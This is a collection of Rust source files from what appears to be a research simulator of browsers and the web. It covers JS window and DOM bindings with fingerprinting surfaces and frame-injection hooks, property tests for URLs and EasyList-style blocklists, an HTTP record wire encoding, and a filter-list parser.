    expose_interface(it, window, "HTMLDocument", document_proto);
    expose_interface(it, window, "Node", node_proto);
    expose_interface(it, window, "Element", element_proto);
    expose_interface(it, window, "HTMLElement", html_element_proto);
    expose_interface(it, window, "EventTarget", event_target_proto);
    expose_interface(it, window, "HTMLCanvasElement", canvas_proto);

    // ----- CustomEvent / Event -----
    install_events_ctor(it, window);
    // ----- Date -----
    install_date(it, window);
    // ----- fetch -----
    install_fetch(it, window);

    // ----- storage -----
    // localStorage / sessionStorage: per-realm in-page stores (enough for
    // fingerprinting scripts that stash identifiers).
    for name in ["localStorage", "sessionStorage"] {
        let storage = it.heap.alloc(JsObject::with_class(Some(object_proto), "Storage"));
        let backing = it.alloc_object();
        method(it, storage, "getItem", move |it, _this, args| {
            let key = string_arg(it, args, 0)?;
            match it.get_prop(&Value::Obj(backing), &key)? {
                Value::Undefined => Ok(Value::Null),
                v => Ok(v),
            }
        });
        method(it, storage, "setItem", move |it, _this, args| {
            let key = string_arg(it, args, 0)?;
            let value = string_arg(it, args, 1)?;
            it.set_prop(&Value::Obj(backing), &key, Value::Str(value))?;
            Ok(Value::Undefined)
        });
        method(it, storage, "removeItem", move |it, _this, args| {
            let key = string_arg(it, args, 0)?;
            it.delete_prop(&Value::Obj(backing), &key);
            Ok(Value::Undefined)
        });
        data(it, window, name, Value::Obj(storage));
    }

    // Chromium family exposes `window.chrome` — the classic cross-family
    // check consumer-browser validation needs (Sec. 3.3).
    if host.borrow().profile.is_chromium {
        let chrome = it.alloc_object_with_class("Object");
        let runtime = it.alloc_object();
        data(it, chrome, "runtime", Value::Obj(runtime));
        data(it, window, "chrome", Value::Obj(chrome));
    }

    // ----- window.open -----
    method(it, window, "open", move |it, _this, _args| {
        let h = host_of(it);
        let rw = create_frame(it, &h, FrameContext::WindowOpen);
        Ok(Value::Obj(rw.window))
    });

    let rw = RealmWindow {
        window,
        navigator,
        screen,
        document,
        body,
        navigator_proto,
        screen_proto,
        document_proto,
        node_proto,
        element_proto,
        event_target_proto,
        canvas_proto,
        frames_array,
        is_top,
    };
    if is_top {
        host.borrow_mut().set_top(rw);
    }
    rw
}

// ------------------------------------------------------------ event target

fn install_event_target(it: &mut Interp, proto: ObjId) {
    method(it, proto, "addEventListener", move |it, this, args| {
        let Some(target) = this.as_obj() else {
            return Err(it.throw_error(ErrorKind::Type, "invalid EventTarget"));
        };
        let etype = string_arg(it, args, 0)?;
        let listener = args.get(1).cloned().unwrap_or(Value::Undefined);
        host_of(it)
            .borrow_mut()
            .listeners
            .entry((target.0, etype.to_string()))
            .or_default()
            .push(listener);
        Ok(Value::Undefined)
    });
    method(it, proto, "removeEventListener", move |it, this, args| {
        let Some(target) = this.as_obj() else {
            return Ok(Value::Undefined);
        };
        let etype = string_arg(it, args, 0)?;
        let listener = args.get(1).cloned().unwrap_or(Value::Undefined);
        let h = host_of(it);
        if let Some(ls) = h.borrow_mut().listeners.get_mut(&(target.0, etype.to_string())) {
            ls.retain(|l| !l.strict_eq(&listener));
        }
        Ok(Value::Undefined)
    });
    method(it, proto, "dispatchEvent", move |it, this, args| {
        let event = args.first().cloned().unwrap_or(Value::Undefined);
        let etype = {
            let t = it.get_prop(&event, "type")?;
            it.to_string_value(&t)?
        };
        let h = host_of(it);
        // JS listeners registered on this target.
        if let Some(target) = this.as_obj() {
            let listeners = h
                .borrow()
                .listeners
                .get(&(target.0, etype.to_string()))
                .cloned()
                .unwrap_or_default();
            for l in listeners {
                if matches!(&l, Value::Obj(id) if it.heap.get(*id).is_callable()) {
                    it.call(l, this.clone(), std::slice::from_ref(&event))?;
                }
            }
        }
        // Privileged (extension) sinks see every natively-dispatched event —
        // and nothing that a shadowing page function chose to swallow.
        let sinks = h.borrow().event_sinks.clone();
        for sink in sinks {
            sink(it, &etype, event.clone());
        }
        Ok(Value::Bool(true))
    });
}

fn install_events_ctor(it: &mut Interp, window: ObjId) {
    for name in ["CustomEvent", "Event"] {
        let ctor = it.alloc_native_fn(name, move |it, _this, args| {
            let etype = string_arg(it, args, 0)?;
            let ev = it.alloc_object_with_class("CustomEvent");
            data(it, ev, "type", Value::Str(etype));
            data(it, ev, "bubbles", Value::Bool(false));
            let detail = match args.get(1) {
                Some(opts @ Value::Obj(_)) => it.get_prop(opts, "detail")?,
                _ => Value::Undefined,
            };
            data(it, ev, "detail", detail);
            Ok(Value::Obj(ev))
        });
        data(it, window, name, Value::Obj(ctor));
    }
}

fn install_date(it: &mut Interp, window: ObjId) {
    let date_proto = it.heap.alloc(JsObject::with_class(
        Some(it.intrinsics.object_proto),
        "DatePrototype",
    ));
    {
        method(it, date_proto, "getTime", move |it, _this, _args| {
            let h = host_of(it);
            let t = h.borrow().epoch_base_ms + it.now_ms;
            Ok(Value::Num(t as f64))
        });
        method(it, date_proto, "getTimezoneOffset", move |it, _this, _args| {
            let h = host_of(it);
            let tz = h.borrow().profile.timezone_offset_min;
            Ok(Value::Num(tz as f64))
        });
        method(it, date_proto, "getFullYear", |_it, _this, _args| {
            Ok(Value::Num(2022.0))
        });
        method(it, date_proto, "toISOString", |_it, _this, _args| {
            Ok(Value::str("2022-06-20T00:00:00.000Z"))
        });
    }
    let dp = date_proto;
    let ctor = it.alloc_native_fn("Date", move |it, _this, _args| {
        let obj = it.heap.alloc(JsObject::with_class(Some(dp), "Date"));
        Ok(Value::Obj(obj))
    });
    it.heap
        .get_mut(ctor)
        .props
        .insert(Arc::from("prototype"), Property::data_hidden(Value::Obj(date_proto)));
    {
        method(it, ctor, "now", move |it, _this, _args| {
            let h = host_of(it);
            let t = h.borrow().epoch_base_ms + it.now_ms;
            Ok(Value::Num(t as f64))
        });
    }
    data(it, window, "Date", Value::Obj(ctor));
}

fn install_fetch(it: &mut Interp, window: ObjId) {
    method(it, window, "fetch", move |it, _this, args| {
        let url_s = string_arg(it, args, 0)?;
        let h = host_of(it);
        let url = h.borrow().resolve_url(&url_s);
        let t = it.now_ms;
        h.borrow_mut().push_request(url, ResourceType::XmlHttpRequest, t);
        let resp = h.borrow().server_resources.get(&*url_s).cloned();
        let (status, body) = match resp {
            Some(r) => (r.status, r.body),
            None => (404, String::new()),
        };
        let robj = it.alloc_object_with_class("Response");
        data(it, robj, "status", Value::Num(status as f64));
        data(it, robj, "ok", Value::Bool(status == 200));
        let body_rc: Arc<str> = Arc::from(body);
        {
            let body_rc = body_rc.clone();
            method(it, robj, "text", move |it, _this, _args| {
                let v = Value::Str(body_rc.clone());
                Ok(make_thenable(it, v))
            });
        }
        Ok(make_thenable(it, Value::Obj(robj)))
    });
}

/// A synchronously-resolving thenable standing in for a Promise. `.then(cb)`
/// immediately invokes `cb` with the resolved value and wraps the result;
/// `.catch` is a no-op returning the same thenable. The corpus only chains
/// `.then`, so eager resolution is behaviour-preserving for it.
pub fn make_thenable(it: &mut Interp, resolved: Value) -> Value {
    let p = it.alloc_object_with_class("Promise");
    {
        let resolved = resolved.clone();
        method(it, p, "then", move |it, _this, args| {
            let cb = args.first().cloned().unwrap_or(Value::Undefined);
            let next = match &cb {
                Value::Obj(id) if it.heap.get(*id).is_callable() => {
                    it.call(cb.clone(), Value::Undefined, std::slice::from_ref(&resolved))?
                }
                _ => resolved.clone(),
            };
            // Flatten thenables like real `then` does.
            if let Value::Obj(id) = &next {
                if it.heap.get(*id).class.as_ref() == "Promise" {
                    return Ok(next);
                }
            }
            Ok(make_thenable(it, next))
        });
    }
    let p_val = Value::Obj(p);
    {
        let p_ret = p_val.clone();
        method(it, p, "catch", move |_it, _this, _args| Ok(p_ret.clone()));
    }
    p_val
}

// ----------------------------------------------------------------- elements

/// Create an element object for `tag`.
pub fn make_element(it: &mut Interp, html_element_proto: ObjId, tag: &str) -> ObjId {
    make_element_with_canvas(it, html_element_proto, html_element_proto, tag)
}

/// Element creation with the realm's canvas prototype available (canvas
/// elements chain through `HTMLCanvasElement.prototype`).
pub fn make_element_with_canvas(
    it: &mut Interp,
    html_element_proto: ObjId,
    canvas_proto: ObjId,
    tag: &str,
) -> ObjId {
    let tag_lower = tag.to_ascii_lowercase();
    let class = match tag_lower.as_str() {
        "iframe" => "HTMLIFrameElement",
        "canvas" => "HTMLCanvasElement",
        "script" => "HTMLScriptElement",
        "div" => "HTMLDivElement",
        "body" => "HTMLBodyElement",
        "head" => "HTMLHeadElement",
        _ => "HTMLElement",
    };
    let proto = if class == "HTMLCanvasElement" { canvas_proto } else { html_element_proto };
    let el = it.heap.alloc(JsObject::with_class(Some(proto), class));
    data(it, el, "tagName", Value::str(tag_lower.to_ascii_uppercase()));
    data(it, el, "id", Value::str(""));
    data(it, el, "src", Value::str(""));
    let style = it.alloc_object();
    data(it, el, "style", Value::Obj(style));
    el
}

/// Canvas APIs on `HTMLCanvasElement.prototype` — `getContext` (WebGL per
/// profile, Sec. 3.1) and `toDataURL` (a deterministic render hash standing
/// in for canvas fingerprinting).
fn install_canvas_methods(it: &mut Interp, canvas_proto: ObjId) {
    method(it, canvas_proto, "getContext", move |it, this, args| {
        let Some(id) = this.as_obj() else {
            return Err(it.throw_error(ErrorKind::Type, "getContext on non-canvas"));
        };
        if it.heap.get(id).class.as_ref() != "HTMLCanvasElement" {
            return Err(it.throw_error(ErrorKind::Type, "getContext on non-canvas"));
        }
        let kind = string_arg(it, args, 0)?;
        if &*kind == "webgl" || &*kind == "experimental-webgl" {
            let webgl = host_of(it).borrow().profile.webgl.clone();
            match webgl {
                None => Ok(Value::Null), // headless: no WebGL at all
                Some(profile) => Ok(Value::Obj(make_webgl_context(it, &profile))),
            }
        } else {
            Ok(Value::Obj(it.alloc_object_with_class("CanvasRenderingContext2D")))
        }
    });
    method(it, canvas_proto, "toDataURL", move |it, _this, _args| {
        // Deterministic per-profile render hash: same GPU/driver → same
        // pixels, the premise of canvas fingerprinting.
        let h = host_of(it);
        let hb = h.borrow();
        let mut x = hb.profile.geometry.screen_width as u64;
        x = x.wrapping_mul(0x100_0000_01B3)
            ^ hb.profile.webgl.as_ref().map(|w| w.renderer.len() as u64).unwrap_or(0)
            ^ hb.profile.fonts.len() as u64;
        x = x.wrapping_mul(0xBF58_476D_1CE4_E5B9);
        Ok(Value::str(format!("data:image/png;base64,{x:016x}")))
    });
}

/// Methods shared by all nodes (on `Node.prototype`): `appendChild` is the
/// DOM-modification entry the stealth frame protection must intercept.
fn install_node_methods(it: &mut Interp, node_proto: ObjId) {
    method(it, node_proto, "appendChild", move |it, this, args| {
        let child = args.first().cloned().unwrap_or(Value::Undefined);
        let Some(child_id) = child.as_obj() else {
            return Err(it.throw_error(ErrorKind::Type, "appendChild requires a node"));
        };
        let h = host_of(it);
        let class = it.heap.get(child_id).class.clone();
        match class.as_ref() {
            "HTMLIFrameElement" => {
                // Attaching an iframe creates its browsing context — a
                // pristine window object, instrumented only if a (sync or
                // eventually-run async) frame hook does so.
                let rw = create_frame(it, &h, FrameContext::IframeAppend);
                data(it, child_id, "contentWindow", Value::Obj(rw.window));
                data(it, child_id, "contentDocument", Value::Obj(rw.document));
            }
            "HTMLScriptElement" => {
                // Appending a <script src> fetches and runs it — this is
                // how dynamically-loaded detectors arrive.
                let src = it.get_prop(&child, "src")?;
                let src_s = it.to_string_value(&src)?;
                if !src_s.is_empty() {
                    let url = h.borrow().resolve_url(&src_s);
                    let t = it.now_ms;
                    h.borrow_mut().push_request(url, ResourceType::Script, t);
                    let resp = h.borrow().server_resources.get(&*src_s).cloned();
                    if let Some(r) = resp {
                        let _ = it.eval_in_scope(Value::str(&r.body), &it.global_scope());
                    }
                } else {
                    let text = it.get_prop(&child, "text")?;
                    if let Value::Str(code) = text {
                        let _ = it.eval_in_scope(Value::Str(code), &it.global_scope());
                    }
                }
            }
            _ => {}
        }
        let _ = this;
        Ok(child)
    });
    method(it, node_proto, "removeChild", |_it, _this, args| {
        Ok(args.first().cloned().unwrap_or(Value::Undefined))
    });
}

/// Methods on `Element.prototype`.
fn install_element_methods(it: &mut Interp, element_proto: ObjId) {
    method(it, element_proto, "setAttribute", move |it, this, args| {
        let name = string_arg(it, args, 0)?;
        let value = string_arg(it, args, 1)?;
        it.set_prop(&this, &name, Value::Str(value))?;
        Ok(Value::Undefined)
    });
    method(it, element_proto, "getAttribute", move |it, this, args| {
        let name = string_arg(it, args, 0)?;
        it.get_prop(&this, &name)
    });
    method(it, element_proto, "remove", |_it, _this, _args| Ok(Value::Undefined));
}

fn lookup_element(host: &PageShared, id: &str) -> Option<Value> {
    host.borrow().element_id(id).map(Value::Obj)
}

/// Materialise a WebGL context for this realm (lazy; see module docs).
fn make_webgl_context(it: &mut Interp, profile: &crate::webgl::WebGlProfile) -> ObjId {
    let proto = it.heap.alloc(JsObject::with_class(
        Some(it.intrinsics.object_proto),
        "WebGLRenderingContextPrototype",
    ));
    for (name, value) in &profile.props {
        data(it, proto, name, Value::str(value));
    }
    let vendor = profile.vendor.clone();
    let renderer = profile.renderer.clone();
    method(it, proto, "getParameter", move |_it, _this, args| {
        let code = args.first().map(|v| v.to_number()).unwrap_or(0.0) as u32;
        Ok(match code {
            37445 => Value::str(&vendor),   // UNMASKED_VENDOR_WEBGL
            37446 => Value::str(&renderer), // UNMASKED_RENDERER_WEBGL
            other => Value::str(format!("webgl-param-{other}")),
        })
    });
    method(it, proto, "getSupportedExtensions", |it, _this, _args| {
        let exts = vec![
            Value::str("WEBGL_debug_renderer_info"),
            Value::str("OES_texture_float"),
        ];
        Ok(Value::Obj(it.alloc_array(exts)))
    });
    it.heap.alloc(JsObject::with_class(Some(proto), "WebGLRenderingContext"))
}

/// Re-point the per-page location data an installed realm baked in at
/// build time (`location.href`/`host`/`hostname`/`pathname`/`protocol` and
/// `document.domain`) at `url`. Property insertion positions are
/// preserved, so a re-pointed clone is observably identical to a realm
/// built for `url` from scratch.
pub(crate) fn repoint_location(it: &mut Interp, rw: RealmWindow, url: &netsim::Url) {
    let loc = it.heap.get(rw.window).props.get("location").and_then(|p| match &p.slot {
        Slot::Data(Value::Obj(id)) => Some(*id),
        _ => None,
    });
    if let Some(loc) = loc {
        data(it, loc, "href", Value::str(url.to_string()));
        data(it, loc, "host", Value::str(&url.host));
        data(it, loc, "hostname", Value::str(&url.host));
        data(it, loc, "pathname", Value::str(&url.path));
        data(it, loc, "protocol", Value::str(format!("{}:", url.scheme)));
    }
    data(it, rw.document, "domain", Value::str(&url.host));
}

// ------------------------------------------------------------------ frames

/// Create a child browsing context and run the frame hooks.
pub fn create_frame(it: &mut Interp, host: &PageShared, ctx: FrameContext) -> RealmWindow {
    let rw = install_window(it, host, false);
    {
        let mut h = host.borrow_mut();
        h.frames.push((rw, ctx));
        // Expose the new window through the top window's `frames` array.
        if let Some(top) = h.top() {
            let arr = top.frames_array;
            drop(h);
            if let Some(elems) = &mut it.heap.get_mut(arr).elements {
                elems.push(Value::Obj(rw.window));
            }
        }
    }
    // Synchronous hooks: the stealth extension's frame protection
    // instruments the new context before the page script can touch it.
    let sync_hooks = host.borrow().frame_sync_hooks.clone();
    for hook in sync_hooks {
        hook(it, rw);
    }
    // Async hooks: vanilla extension injection happens on the job queue —
    // a page script running synchronously right now wins the race.
    let async_hooks = host.borrow().frame_async_hooks.clone();
    for hook in async_hooks {
        let hook_rw = rw;
        let f = it.alloc_native_fn("frameInjection", move |it2, _this, _args| {
            hook(it2, hook_rw);
            Ok(Value::Undefined)
        });
        it.push_job(Value::Obj(f), Vec::new(), 0);
    }
    rw
}
