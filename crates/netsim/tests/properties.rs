//! Property-based tests for URL handling and blocklists.

use netsim::url::etld1_of;
use netsim::{Blocklist, BlocklistKind, HttpRequest, ResourceType, Url};
use proplite::{run_cases, Rng};

/// A random host of 1–3 lowercase labels under `.com`.
fn host(rng: &mut Rng) -> String {
    let labels = rng.usize_in(1, 4);
    let mut parts = Vec::new();
    for _ in 0..labels {
        let first = rng.string_of("abcdefghijklmnopqrstuvwxyz", 1, 1);
        let rest = rng.string_of("abcdefghijklmnopqrstuvwxyz0123456789", 0, 8);
        parts.push(format!("{first}{rest}"));
    }
    format!("{}.com", parts.join("."))
}

/// Display → parse is the identity on well-formed URLs.
#[test]
fn url_roundtrip() {
    run_cases(256, 0x4E51, |rng: &mut Rng| {
        let host = host(rng);
        let segments = rng.usize_in(0, 4);
        let mut path = String::new();
        for _ in 0..segments {
            path.push('/');
            path.push_str(&rng.string_of("abcdefghijklmnopqrstuvwxyz0123456789._-", 0, 10));
        }
        if path.is_empty() {
            path.push('/');
        }
        let query = rng.string_of("abcdefghijklmnopqrstuvwxyz=&0123456789", 0, 12);
        let s = if query.is_empty() {
            format!("https://{host}{path}")
        } else {
            format!("https://{host}{path}?{query}")
        };
        let u = Url::parse(&s).unwrap();
        assert_eq!(u.to_string(), s);
    });
}

/// eTLD+1 is idempotent and a suffix of the host.
#[test]
fn etld1_idempotent_and_suffix() {
    run_cases(256, 0x4E52, |rng: &mut Rng| {
        let host = host(rng);
        let e = etld1_of(&host);
        assert_eq!(etld1_of(&e), e.clone());
        assert!(host.ends_with(&e));
    });
}

/// Subdomains never change the registrable domain.
#[test]
fn subdomains_preserve_etld1() {
    run_cases(256, 0x4E53, |rng: &mut Rng| {
        let host = host(rng);
        let sub = rng.string_of("abcdefghijklmnopqrstuvwxyz", 1, 8);
        assert_eq!(etld1_of(&format!("{sub}.{host}")), etld1_of(&host));
    });
}

/// same_site is an equivalence on hosts of the same registrable domain.
#[test]
fn same_site_equivalence() {
    run_cases(256, 0x4E54, |rng: &mut Rng| {
        let host = host(rng);
        let s1 = rng.string_of("abcdefghijklmnopqrstuvwxyz", 1, 6);
        let s2 = rng.string_of("abcdefghijklmnopqrstuvwxyz", 1, 6);
        let a = Url::parse(&format!("https://{s1}.{host}/")).unwrap();
        let b = Url::parse(&format!("https://{s2}.{host}/x")).unwrap();
        assert!(a.same_site(&b));
        assert!(b.same_site(&a));
        assert!(a.same_site(&a));
    });
}

/// A domain-anchored rule matches the domain and every subdomain, and
/// nothing else from an unrelated apex.
#[test]
fn blocklist_domain_anchor_semantics() {
    run_cases(256, 0x4E55, |rng: &mut Rng| {
        let domain = host(rng);
        let sub = rng.string_of("abcdefghijklmnopqrstuvwxyz", 1, 6);
        let list = Blocklist::parse(BlocklistKind::EasyList, &format!("||{domain}^\n"));
        let req = |h: &str| HttpRequest {
            url: Url::parse(&format!("https://{h}/x")).unwrap(),
            page: Url::parse("https://page.org/").unwrap(),
            resource_type: ResourceType::Script,
            method: "GET",
            time_ms: 0,
        };
        assert!(list.matches(&req(&domain)));
        let subdomain = format!("{sub}.{domain}");
        assert!(list.matches(&req(&subdomain)));
        assert!(!list.matches(&req("unrelated-apex.org")));
    });
}

/// Parsing arbitrary text never panics.
#[test]
fn url_parse_total() {
    run_cases(256, 0x4E56, |rng: &mut Rng| {
        let s = rng.any_string(0, 80);
        let _ = Url::parse(&s);
    });
}

/// Blocklist parsing never panics and ignores comments.
#[test]
fn blocklist_parse_total() {
    run_cases(256, 0x4E57, |rng: &mut Rng| {
        let text = rng.string_of("!|abcdefghijklmnopqrstuvwxyz.^/\n ", 0, 200);
        let list = Blocklist::parse(BlocklistKind::EasyPrivacy, &text);
        let _ = list.rule_count();
    });
}
