//! Property-based tests for URL handling and blocklists.

use netsim::url::etld1_of;
use netsim::{Blocklist, BlocklistKind, HttpRequest, ResourceType, Url};
use proptest::prelude::*;

fn host_strategy() -> impl Strategy<Value = String> {
    proptest::collection::vec("[a-z][a-z0-9]{0,8}", 1..4)
        .prop_map(|labels| format!("{}.com", labels.join(".")))
}

proptest! {
    /// Display → parse is the identity on well-formed URLs.
    #[test]
    fn url_roundtrip(host in host_strategy(), path in "(/[a-z0-9._-]{0,10}){0,3}", query in "[a-z=&0-9]{0,12}") {
        let path = if path.is_empty() { "/".to_string() } else { path };
        let s = if query.is_empty() {
            format!("https://{host}{path}")
        } else {
            format!("https://{host}{path}?{query}")
        };
        let u = Url::parse(&s).unwrap();
        prop_assert_eq!(u.to_string(), s);
    }

    /// eTLD+1 is idempotent and a suffix of the host.
    #[test]
    fn etld1_idempotent_and_suffix(host in host_strategy()) {
        let e = etld1_of(&host);
        prop_assert_eq!(etld1_of(&e), e.clone());
        prop_assert!(host.ends_with(&e));
    }

    /// Subdomains never change the registrable domain.
    #[test]
    fn subdomains_preserve_etld1(host in host_strategy(), sub in "[a-z]{1,8}") {
        prop_assert_eq!(etld1_of(&format!("{sub}.{host}")), etld1_of(&host));
    }

    /// same_site is an equivalence on hosts of the same registrable domain.
    #[test]
    fn same_site_equivalence(host in host_strategy(), s1 in "[a-z]{1,6}", s2 in "[a-z]{1,6}") {
        let a = Url::parse(&format!("https://{s1}.{host}/")).unwrap();
        let b = Url::parse(&format!("https://{s2}.{host}/x")).unwrap();
        prop_assert!(a.same_site(&b));
        prop_assert!(b.same_site(&a));
        prop_assert!(a.same_site(&a));
    }

    /// A domain-anchored rule matches the domain and every subdomain, and
    /// nothing else from an unrelated apex.
    #[test]
    fn blocklist_domain_anchor_semantics(domain in host_strategy(), sub in "[a-z]{1,6}") {
        let list = Blocklist::parse(BlocklistKind::EasyList, &format!("||{domain}^\n"));
        let req = |h: &str| HttpRequest {
            url: Url::parse(&format!("https://{h}/x")).unwrap(),
            page: Url::parse("https://page.org/").unwrap(),
            resource_type: ResourceType::Script,
            method: "GET",
            time_ms: 0,
        };
        prop_assert!(list.matches(&req(&domain)));
        let subdomain = format!("{sub}.{domain}");
        prop_assert!(list.matches(&req(&subdomain)));
        prop_assert!(!list.matches(&req("unrelated-apex.org")));
    }

    /// Parsing arbitrary text never panics.
    #[test]
    fn url_parse_total(s in ".{0,80}") {
        let _ = Url::parse(&s);
    }

    /// Blocklist parsing never panics and ignores comments.
    #[test]
    fn blocklist_parse_total(text in "[!|a-z.^/\\n ]{0,200}") {
        let list = Blocklist::parse(BlocklistKind::EasyPrivacy, &text);
        let _ = list.rule_count();
    }
}
