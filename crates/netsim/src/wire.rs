//! Canonical single-line encodings of traffic records.
//!
//! The crawl archive folds every HTTP record a visit produced into its
//! capture digest, and `archive_diff` prints record-level deltas between
//! two bundles. Both need one stable, unambiguous line per record — the
//! SQL dump is too loose for that (it escapes and drops fields). The
//! encodings here are exact: `decode_*` inverts `encode_*` for every
//! record the simulator can produce, which the round-trip tests pin down.
//!
//! Fields are space-separated; URLs, methods and resource-type names never
//! contain spaces in the simulated web, and the one free-text field per
//! record (`content_type`) is placed last so it may contain anything but a
//! newline.

use crate::http::{HttpRequest, HttpResponse, ResourceType};
use crate::url::Url;

/// FNV-1a 64-bit — the workspace's standard content hash.
fn fnv1a(bytes: &[u8]) -> u64 {
    let mut h = 0xCBF2_9CE4_8422_2325u64;
    for b in bytes {
        h ^= *b as u64;
        h = h.wrapping_mul(0x100_0000_01B3);
    }
    h
}

impl ResourceType {
    /// Inverse of [`ResourceType::as_str`]. Returns `None` for unknown
    /// names so corrupt archives fail loudly instead of mis-bucketing.
    pub fn parse(s: &str) -> Option<ResourceType> {
        ResourceType::all().iter().copied().find(|t| t.as_str() == s)
    }
}

/// `{method} {resource_type} {time_ms} {url} {page}`
pub fn encode_request(req: &HttpRequest) -> String {
    format!(
        "{} {} {} {} {}",
        req.method,
        req.resource_type.as_str(),
        req.time_ms,
        req.url,
        req.page
    )
}

/// Inverse of [`encode_request`].
pub fn decode_request(line: &str) -> Option<HttpRequest> {
    let mut it = line.splitn(5, ' ');
    let method = match it.next()? {
        "GET" => "GET",
        "POST" => "POST",
        "HEAD" => "HEAD",
        _ => return None,
    };
    let resource_type = ResourceType::parse(it.next()?)?;
    let time_ms = it.next()?.parse().ok()?;
    let url = Url::parse(it.next()?)?;
    let page = Url::parse(it.next()?)?;
    Some(HttpRequest { url, page, resource_type, method, time_ms })
}

/// `{status} {body_fnv:016x} {body_len} {url} {content_type}` — the body
/// itself lives in the content-addressed blob store (or, for non-script
/// payloads, only its hash is retained), so the wire line carries its
/// identity, not its bytes.
pub fn encode_response(resp: &HttpResponse) -> String {
    format!(
        "{} {:016x} {} {} {}",
        resp.status,
        fnv1a(resp.body.as_bytes()),
        resp.body.len(),
        resp.url,
        resp.content_type
    )
}

/// Decoded form of [`encode_response`]: everything but the body bytes.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ResponseSummary {
    pub url: Url,
    pub status: u16,
    pub content_type: String,
    /// FNV-64 of the body — the blob-store key when the body was archived.
    pub body_hash: u64,
    pub body_len: usize,
}

impl ResponseSummary {
    /// Summarise a live response.
    pub fn of(resp: &HttpResponse) -> ResponseSummary {
        ResponseSummary {
            url: resp.url.clone(),
            status: resp.status,
            content_type: resp.content_type.clone(),
            body_hash: fnv1a(resp.body.as_bytes()),
            body_len: resp.body.len(),
        }
    }
}

/// Inverse of [`encode_response`], minus the body.
pub fn decode_response(line: &str) -> Option<ResponseSummary> {
    let mut it = line.splitn(5, ' ');
    let status = it.next()?.parse().ok()?;
    let body_hash = u64::from_str_radix(it.next()?, 16).ok()?;
    let body_len = it.next()?.parse().ok()?;
    let url = Url::parse(it.next()?)?;
    let content_type = it.next()?.to_string();
    Some(ResponseSummary { url, status, content_type, body_hash, body_len })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    #[test]
    fn resource_type_parse_inverts_as_str() {
        for t in ResourceType::all() {
            assert_eq!(ResourceType::parse(t.as_str()), Some(*t));
        }
        assert_eq!(ResourceType::parse("scripts"), None);
        assert_eq!(ResourceType::parse(""), None);
    }

    #[test]
    fn request_roundtrip() {
        let req = HttpRequest {
            url: url("https://cdn.w000001.com/lib/app.js?v=3"),
            page: url("https://w000001.com/"),
            resource_type: ResourceType::Script,
            method: "GET",
            time_ms: 4217,
        };
        let line = encode_request(&req);
        let back = decode_request(&line).unwrap();
        assert_eq!(back.url, req.url);
        assert_eq!(back.page, req.page);
        assert_eq!(back.resource_type, req.resource_type);
        assert_eq!(back.method, req.method);
        assert_eq!(back.time_ms, req.time_ms);
        assert_eq!(encode_request(&back), line);
    }

    #[test]
    fn request_decode_rejects_garbage() {
        assert!(decode_request("").is_none());
        assert!(decode_request("GET script").is_none());
        assert!(decode_request("PUT script 1 https://a.com/ https://a.com/").is_none());
        assert!(decode_request("GET scriptz 1 https://a.com/ https://a.com/").is_none());
    }

    #[test]
    fn response_roundtrip_keeps_identity_not_bytes() {
        let resp = HttpResponse {
            url: url("https://w000002.com/app.js"),
            status: 200,
            content_type: "text/javascript; charset=utf-8".into(),
            body: "navigator.userAgent;".into(),
        };
        let line = encode_response(&resp);
        let sum = decode_response(&line).unwrap();
        assert_eq!(sum, ResponseSummary::of(&resp));
        assert_eq!(sum.body_hash, fnv1a(resp.body.as_bytes()));
        assert_eq!(sum.body_len, resp.body.len());
        // content_type with a space survives (it is the trailing field).
        assert!(sum.content_type.ends_with("charset=utf-8"));
    }

    #[test]
    fn response_decode_rejects_garbage() {
        assert_eq!(decode_response("200 zz 4 https://a.com/ t"), None);
        assert_eq!(decode_response("abc"), None);
    }

    #[test]
    fn distinct_bodies_get_distinct_hashes() {
        let a = HttpResponse {
            url: url("https://a.com/x.js"),
            status: 200,
            content_type: "text/javascript".into(),
            body: "var a = 1;".into(),
        };
        let mut b = a.clone();
        b.body = "var a = 2;".into();
        let ha = decode_response(&encode_response(&a)).unwrap().body_hash;
        let hb = decode_response(&encode_response(&b)).unwrap().body_hash;
        assert_ne!(ha, hb);
    }
}
