//! EasyList/EasyPrivacy-style filter lists.
//!
//! Table 9 of the paper counts HTTP requests matching EasyList (ads) and
//! EasyPrivacy (trackers). Real filter lists are tens of thousands of rules
//! with a bespoke syntax; the evaluation only needs the two capabilities
//! those rules actually provide for counting: domain anchors
//! (`||tracker.io^`) and path substrings (`/pixel.gif`). Both are
//! implemented here along with a parser for that sub-syntax, so the
//! synthetic lists are written in genuine EasyList notation.

use crate::http::HttpRequest;
use crate::url::etld1_of;

/// Which list a rule came from — ads (EasyList) vs trackers (EasyPrivacy).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum BlocklistKind {
    EasyList,
    EasyPrivacy,
}

#[derive(Clone, Debug)]
enum Rule {
    /// `||domain^` — matches the domain and all subdomains.
    DomainAnchor(String),
    /// `/substring` — matches anywhere in the path.
    PathSubstring(String),
}

/// A parsed filter list.
#[derive(Clone, Debug)]
pub struct Blocklist {
    pub kind: BlocklistKind,
    rules: Vec<Rule>,
}

impl Blocklist {
    /// Parse rules in the supported EasyList sub-syntax. Comment lines
    /// (`!`), element-hiding rules (`##`) and empty lines are skipped, as a
    /// real consumer of the lists would for network-layer matching.
    pub fn parse(kind: BlocklistKind, text: &str) -> Blocklist {
        let mut rules = Vec::new();
        for line in text.lines() {
            let line = line.trim();
            if line.is_empty() || line.starts_with('!') || line.contains("##") {
                continue;
            }
            if let Some(rest) = line.strip_prefix("||") {
                let domain = rest.trim_end_matches('^').to_ascii_lowercase();
                if !domain.is_empty() {
                    rules.push(Rule::DomainAnchor(domain));
                }
            } else if line.starts_with('/') {
                rules.push(Rule::PathSubstring(line.to_owned()));
            }
        }
        Blocklist { kind, rules }
    }

    pub fn rule_count(&self) -> usize {
        self.rules.len()
    }

    /// Does any rule match this request?
    pub fn matches(&self, req: &HttpRequest) -> bool {
        let host = req.url.host.to_ascii_lowercase();
        let host_etld1 = etld1_of(&host);
        for rule in &self.rules {
            match rule {
                Rule::DomainAnchor(domain) => {
                    if host == *domain
                        || host.ends_with(&format!(".{domain}"))
                        || host_etld1 == *domain
                    {
                        return true;
                    }
                }
                Rule::PathSubstring(sub) => {
                    if req.url.path.contains(sub.as_str()) {
                        return true;
                    }
                }
            }
        }
        false
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::http::ResourceType;
    use crate::url::Url;

    fn req(target: &str) -> HttpRequest {
        HttpRequest {
